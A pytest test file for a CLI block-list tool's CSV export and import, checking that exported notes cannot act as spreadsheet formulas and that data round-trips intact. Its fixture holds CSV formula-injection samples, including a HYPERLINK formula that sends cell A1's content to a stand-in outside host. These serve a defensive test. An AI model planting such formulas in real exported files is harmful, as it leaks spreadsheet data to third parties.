"""The block list's file on its way through a spreadsheet and back, and what a program is told of it."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import msgspec
import pytest

from ari_app.domain.facts import Fact, Json
from ari_app.store.journal import Journal
from cli import block_file
from tests.unit.cli_site import CliSite

NOTES = (
    '=HYPERLINK("http://example.org/?"&A1,"Surat")', "=1+1", "+62 812, teman", "-", "- dua kali", "@SUM(A1)", "'=1",
    "''+", "'hanya kutip", "'", "Surat 12", "5=5", '"',
)  # fmt: skip
OBEYED = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet takes for the beginning of a formula, or passes over before one."""


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> CliSite:
    monkeypatch.setenv("SIAGA_SUPERVISOR", "budi")
    site = CliSite(tmp_path / "state", monkeypatch, capfd)
    for number, note in enumerate(NOTES):
        assert site.run("block", "add", f"0812000000{number:02d}", "--note", note).code == 0
    return site


def notes(site: CliSite) -> dict[str, str]:
    return {each["number"]: each["note"] for each in site.run("block", "list", "--json", "-n", "0").json()}


def test_no_note_is_a_formula(site: CliSite) -> None:
    about: dict[str, Json] = {"number": "+6281300000000", "reason": "import", "note": "\t=1"}
    site.tell([Fact("supervisor:a", "number.blocked", data=about)])  # such a note can be entered nowhere
    rows = list(csv.DictReader(io.StringIO(site.run("block", "export").out, newline="")))
    assert len(rows) == len(NOTES) + 1
    assert [row["note"] for row in rows if row["note"].startswith(OBEYED)] == []
    assert all(row["number"].startswith("+62") for row in rows), "numbers are as they are"


def test_there_and_back_changes_nothing(
    site: CliSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    file, expected = tmp_path / "nomor.csv", notes(site)
    assert sorted(expected.values()) == sorted(NOTES)
    assert site.run("block", "export", str(file)).code == 0
    assert site.run("block", "import", str(file)).out.startswith(f"0 numbers are blocked, {len(NOTES)} blocked already")
    assert notes(site) == expected
    other = CliSite(tmp_path / "other", monkeypatch, capfd)
    assert other.run("block", "import", str(file)).code == 0
    assert notes(other) == expected


def test_there_and_back_through_a_pipe(
    site: CliSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """While the rest of it has not come yet, nobody is kept out of the journal."""
    expected, exported = notes(site), site.run("block", "export", "-").out
    assert exported == site.run("block", "export").out
    other = CliSite(tmp_path / "other", monkeypatch, capfd)
    first, second = exported[:400].encode(), exported[400:].encode()
    with other.start("block", "import", "-", stdin=subprocess.PIPE) as importing:
        assert importing.stdin is not None
        importing.stdin.write(first)
        importing.stdin.flush()
        assert other.run("block", "add", "081999999999").code == 0
        said, _ = importing.communicate(second)
    assert said.decode().startswith(f"{len(NOTES)} numbers are blocked")
    assert {number: note for number, note in notes(other).items() if number in expected} == expected


@pytest.mark.parametrize("dry", [(), ("--dry-run",)])
def test_an_import_for_programs(site: CliSite, tmp_path: Path, dry: tuple[str, ...]) -> None:
    """The counts on standard output; the lines that cannot be used are told as always, and by the exit code."""
    file = tmp_path / "nomor.csv"
    file.write_text("number\n081300000001\nabc\n081300000001\n081200000000\n081300000002\n", encoding="utf-8")
    done = site.run("block", "import", str(file), "--json", "--lang", "id", *dry)
    assert (done.code, done.err.count("\n")) == (1, 1)
    assert msgspec.json.decode(done.out) == {
        "dry_run": bool(dry), "blocked": 2, "unchanged": 2, "bad": 1, "stopped_at": None,
    }  # fmt: skip
    file.write_text("081300000001\n", encoding="utf-8")
    assert site.run("block", "import", str(file), "--json").json()["bad"] == 0


def test_a_program_is_told_how_far_an_import_came(
    site: CliSite, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(block_file, "CHUNK", 2)
    flush, left = Journal.flush, [1]

    def full(self: Journal, timeout: float = 10.0, *, or_reserve: bool = False) -> bool:
        left[0] -= 1
        return left[0] >= 0 and flush(self, timeout, or_reserve=or_reserve)

    monkeypatch.setattr(Journal, "flush", full)
    file = tmp_path / "nomor.csv"
    file.write_text("".join(f"08130000000{number}\n" for number in range(5)), encoding="utf-8")
    done = site.run("block", "import", str(file), "--json")
    assert "the disk does not take what was changed" in done.refused()
    assert msgspec.json.decode(done.out) == {
        "dry_run": False, "blocked": 2, "unchanged": 0, "bad": 0, "stopped_at": 2,
    }  # fmt: skip
